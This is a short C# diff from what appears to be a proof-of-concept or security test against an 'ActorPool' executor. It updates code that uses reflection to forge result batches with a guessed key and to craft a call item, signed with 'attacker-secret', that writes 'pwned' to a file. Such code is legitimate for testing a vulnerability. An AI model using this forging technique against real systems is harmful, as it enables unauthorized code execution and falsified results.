@@ -106,7 +106,7 @@ static async Task<int> Forge(string proxy, string worker, int value)
     var items = Array.CreateInstance(itemType, 16);
     for (var id = 1; id <= 16; id++)
     {
-        items.SetValue(Activator.CreateInstance(itemType, (long)id, JsonSerializer.SerializeToUtf8Bytes(value), null, false), id - 1);
+        items.SetValue(Activator.CreateInstance(itemType, (long)id, JsonSerializer.SerializeToUtf8Bytes(value), null, false, Enum.ToObject(Internal("ActorPool.Calls.StopReason"), 0)), id - 1);
     }
 
     var batch = Activator.CreateInstance(Internal("ActorPool.Wire.ResultBatch"), "a-guessed-key", items)!;
@@ -179,7 +179,7 @@ static object WriteFileCall(string marker)
     var describe = Internal("ActorPool.Wire.CallDescriptor").GetMethod("For", BindingFlags.Public | BindingFlags.Static)!;
     var descriptor = describe.Invoke(null, [(Action<string, string>)File.WriteAllText, "fn"]);
     byte[][] arguments = [JsonSerializer.SerializeToUtf8Bytes(marker), JsonSerializer.SerializeToUtf8Bytes("pwned")];
-    return Activator.CreateInstance(Internal("ActorPool.Wire.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1)!;
+    return Activator.CreateInstance(Internal("ActorPool.Wire.CallItem"), "attacker-secret", 1L, descriptor, false, arguments, -1, Activator.CreateInstance(Internal("ActorPool.Wire.CallLimits")))!;
 }
 
 static Type Internal(string name) => typeof(ActorPool.Executor).Assembly.GetType(name, throwOnError: true)!;
